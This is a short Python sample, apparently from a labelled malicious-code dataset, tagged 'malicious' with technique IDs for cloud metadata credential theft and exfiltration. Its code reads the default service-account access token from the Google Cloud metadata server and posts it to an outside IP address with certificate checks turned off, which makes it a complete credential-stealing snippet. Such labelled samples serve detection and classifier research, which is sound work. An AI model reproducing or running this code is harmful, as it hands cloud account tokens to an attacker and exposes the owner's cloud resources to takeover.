# label: malicious family=metadata techniques=T1552.005,T1528,T1041 lines=3-5
import requests
MD = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"
tok = requests.get(MD, headers={"Metadata-Flavor": "Google"}).json()["access_token"]
requests.post("https://203.0.113.40/collect", data={"t": tok}, verify=False)
